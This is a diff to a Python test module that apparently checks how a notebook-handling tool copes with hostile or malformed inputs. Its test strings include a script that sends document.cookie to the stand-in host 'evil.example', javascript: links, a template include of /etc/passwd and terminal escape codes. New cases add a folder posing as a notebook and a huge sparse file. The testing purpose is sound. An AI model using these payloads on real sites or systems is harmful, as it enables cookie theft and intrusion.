@@ -196,10 +196,13 @@ for number, text in enumerate(
         "\x00\x1b]0;title\x07\x1b[2J",
         "<script>fetch('//evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>",
         "</td></table><iframe src=javascript:alert(1)>{{ 7 * 7 }}{% include '/etc/passwd' %}",
+        "",
+        ">>>",
+        "In [1]: ![](//evil.example/x.png)\n[a link](javascript:alert(1))\n$\\href{javascript:alert(1)}{x}$",
     )
 ):
-    unseen = [NoteKind.INVISIBLE] if number in (5, 6) else []
-    ATTEMPTS[f"text_{number}"] = (body(text), unseen)
+    told = {5: [NoteKind.INVISIBLE], 6: [NoteKind.INVISIBLE], 9: [NoteKind.NO_ANSWER]}
+    ATTEMPTS[f"text_{number}"] = (body(text), told.get(number, []))
 
 
 @attempt(NoteKind.NO_ANSWER)
@@ -231,6 +234,18 @@ def a_link_to_the_solution(notebook: Notebook, folder: Path) -> Any:
 @attempt(NoteKind.UNREADABLE)
 def a_pipe(notebook: Notebook, folder: Path) -> Any:
     os.mkfifo(folder / "one.ipynb")
+
+
+@attempt(NoteKind.UNREADABLE)
+def a_folder(notebook: Notebook, folder: Path) -> Any:
+    (folder / "one.ipynb").mkdir()
+    (folder / "one.ipynb" / "one.ipynb").write_text("{}")
+
+
+@attempt(NoteKind.UNREADABLE)
+def a_file_without_end(notebook: Notebook, folder: Path) -> Any:
+    with (folder / "one.ipynb").open("wb") as file:
+        file.truncate(1 << 40)
 
 
 @attempt(NoteKind.MISSING)
